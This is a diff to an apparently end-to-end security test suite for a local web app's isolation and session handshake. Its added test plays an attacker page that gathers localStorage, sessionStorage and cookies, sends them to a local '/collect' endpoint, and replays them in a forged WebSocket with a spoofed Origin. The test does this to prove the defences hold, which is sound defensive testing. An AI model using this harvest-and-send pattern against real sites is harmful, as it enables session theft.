@@ -1,9 +1,9 @@
 /**
  * "Only the page the launcher opened can reach an instance", in a real browser and from
- * outside one: another instance's page, a page of another website and a local program
- * cannot use an instance's API. Pages hold no secret (the session cookie is HttpOnly); a
- * browser holding the cookie still reaches the API only from the instance's own page (the
- * Origin check); a program can forge any header but has no cookie, and cannot get one.
+ * outside one: another instance's page, a page of another website, a page another local
+ * user serves on another port of 127.0.0.1, and a local program cannot use an instance's API.
+ * No cookie is a credential (cookies go to every port of 127.0.0.1): the page's session lives
+ * in its origin's storage, port included, and every socket proves it by challenge-response.
  */
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -28,10 +28,10 @@ function tryApi(url: string): Promise<string> {
       resolve('refused');
     };
     ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'info', args: [] }));
-    ws.onmessage = () => {
+    ws.onmessage = (e) => {
       clearTimeout(timer);
       ws.close();
-      resolve('answered');
+      resolve('envelope' in (JSON.parse(String(e.data)) as object) ? 'answered' : 'refused');
     };
     ws.onclose = () => {
       clearTimeout(timer);
@@ -42,16 +42,18 @@ function tryApi(url: string): Promise<string> {
 
 const apiUrl = (page: Page): Promise<string | null> => page.locator('meta[name="fieldsync-host"]').getAttribute('content');
 
-test("a page reaches its own instance's API, and no other page does, even in a browser signed in to it", async ({ cluster, browser }) => {
+test("a page reaches its own instance's API, and no other page does, even in a browser signed in to it", async ({ cluster }) => {
   const [a, b] = cluster.instances as [(typeof cluster.instances)[number], (typeof cluster.instances)[number]];
   const urlA = (await apiUrl(a.page)) as string;
   const urlB = (await apiUrl(b.page)) as string;
   expect(urlA).toBe(`ws://${new URL(a.page.url()).host}/api`);
-  expect(await a.page.content()).not.toMatch(/key=|fieldsync-[\w-]{16}=/); // no secret in the page
-  expect(await a.page.evaluate(() => document.cookie)).toBe(''); // HttpOnly: no script reads it
+  expect(await a.page.content()).not.toMatch(/key=|code=/); // no secret in the page
+  expect(await a.page.evaluate(() => document.cookie)).toBe(''); // no cookie at all
 
-  // Its own page: yes.
-  expect(await a.page.evaluate(tryApi, urlA)).toBe('answered');
+  // Its own page, through its bridge: yes (callApi runs the handshake with the stored session).
+  expect(await a.callApi('rows', ['lists', {}])).toEqual({ ok: true, value: [] });
+  // Its own origin, but a bare socket without the handshake: the host answers nothing.
+  expect(await a.page.evaluate(tryApi, urlA)).toBe('refused');
   // The page of another instance: no. Its CSP lets it open no socket but its own; and the
   // host would refuse its Origin anyway (unit-tested in src/web-host).
   expect(await a.page.evaluate(tryApi, urlB)).toBe('refused');
@@ -59,17 +61,33 @@ test("a page reaches its own instance's API, and no other page does, even in a b
   const read = await a.page.evaluate(async (url) => fetch(url).then((r) => r.text().then(() => 'read'), () => 'blocked').catch(() => 'blocked'), new URL(b.page.url()).href);
   expect(read).toBe('blocked');
 
-  // Any other page on this machine (another local web app, a page without our CSP), in a
-  // browser that is signed in to A (cookies are not isolated by port, so they go along):
-  // the host refuses its Origin. And a Host other than 127.0.0.1:PORT.
-  const other = createServer((_req, res) => res.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>other</title>'));
+  // Audit E finding 1: a page another local user serves on another port of 127.0.0.1, visited
+  // by this signed-in browser, gets every cookie the browser holds for 127.0.0.1 and whatever
+  // its own origin's storage holds. None of it opens the API, whatever headers go with it.
+  const seen: string[] = [];
+  const other = createServer((req, res) => {
+    seen.push(`${req.url} cookie=${req.headers.cookie ?? ''}`);
+    res.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>other</title>');
+  });
   await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
-  const evil = await browser.newPage();
+  const otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
+  const evil = await a.page.context().newPage(); // the same browser profile as A's page
   try {
-    const nextLink = /\[web-1\] .*a browser signed in; to open this instance in another browser, use (\S+)/.exec(cluster.logs())?.[1];
-    expect(nextLink).toBeTruthy();
-    await evil.goto(nextLink as string); // this browser now holds A's cookie
-    await evil.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
+    await evil.goto(otherUrl);
+    const loot = await evil.evaluate(() => JSON.stringify({ storage: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie }));
+    await evil.evaluate((u) => fetch(`${u}collect`, { credentials: 'include' }).then(() => 'sent'), otherUrl);
+    expect(loot).not.toMatch(/secret|fieldsync/);
+    expect(seen.join('\n')).not.toMatch(/fieldsync/); // no cookie of ours: there is none
+    // Everything it learned, replayed from a program with A's own Origin and Host: no answer.
+    const forged = await new Promise<string>((resolve) => {
+      const ws = new WebSocket(urlA, { origin: new URL(a.page.url()).origin, headers: { Cookie: seen.map((l) => l.split('cookie=')[1]).join('; ') || 'x=1' } });
+      ws.once('open', () => ws.send(JSON.stringify({ id: 1, method: 'rows', args: ['lists', {}] })));
+      ws.once('message', (d) => resolve(String(d)));
+      ws.once('unexpected-response', (_req, res) => resolve(`HTTP ${res.statusCode}`));
+      ws.once('error', () => resolve('error'));
+    });
+    expect(forged).toBe('{"refused":{"reason":"protocol"}}');
+    // From that page in the browser: the host refuses its Origin, and a Host other than 127.0.0.1:PORT.
     expect(await evil.evaluate(tryApi, urlA)).toBe('refused');
     await expect.poll(() => cluster.logs()).toContain('[web-1] fieldsync web host [web-1]: refused a WebSocket: wrong Origin');
     expect(await evil.evaluate(tryApi, urlA.replace('127.0.0.1', 'localhost'))).toBe('refused');
@@ -88,23 +106,25 @@ test("a page reaches its own instance's API, and no other page does, even in a b
   await expect(a.page.getByTestId('no-lists')).toBeVisible();
 });
 
-test('a local program gets nothing from an instance: no page, no key, no API, whatever headers it forges', async ({ cluster }) => {
+test('a local program gets nothing from an instance: the shell holds no secret, and no header opens the API', async ({ cluster }) => {
   const a = (cluster.instances as [(typeof cluster.instances)[number]])[0];
   const origin = new URL(a.page.url()).origin;
   for (const path of ['/', '/index.html', '/login', '/login?code=guess']) {
     const res = await fetch(`${origin}${path}`, { redirect: 'manual', headers: { Origin: origin, Referer: `${origin}/` } });
-    expect(res.status, path).toBe(403);
-    expect(await res.text()).not.toMatch(/fieldsync-host|key=/);
+    expect(res.status, path).toBe(200); // the app shell
+    expect(res.headers.get('set-cookie')).toBeNull();
+    expect(await res.text()).not.toMatch(/code=|key=|secret/);
   }
   const attempt = (headers: Record<string, string>): Promise<string> => new Promise((resolve) => {
     const ws = new WebSocket(`ws://${new URL(origin).host}/api`, { origin, headers });
-    ws.once('open', () => { ws.close(); resolve('open'); });
+    ws.once('open', () => ws.send(JSON.stringify({ id: 1, method: 'info', args: [] })));
+    ws.once('message', (d) => resolve(String(d)));
     ws.once('unexpected-response', (_req, res) => resolve(`HTTP ${res.statusCode}`));
     ws.once('error', () => resolve('error'));
   });
-  expect(await attempt({})).toBe('HTTP 403');
-  expect(await attempt({ Cookie: 'fieldsync-0000000000000000=guess' })).toBe('HTTP 403');
-  await expect.poll(() => cluster.logs()).toContain('[web-1] fieldsync web host [web-1]: refused a WebSocket: no session cookie');
+  expect(await attempt({})).toBe('{"refused":{"reason":"protocol"}}');
+  expect(await attempt({ Cookie: 'fieldsync-0000000000000000=guess' })).toBe('{"refused":{"reason":"protocol"}}');
+  await expect.poll(() => cluster.logs()).toContain('[web-1] fieldsync web host [web-1]: refused a WebSocket: malformed handshake');
   // The page it served still works: nothing of that reached the instance.
   expect(await a.callApi('rows', ['lists', {}])).toEqual({ ok: true, value: [] });
 });
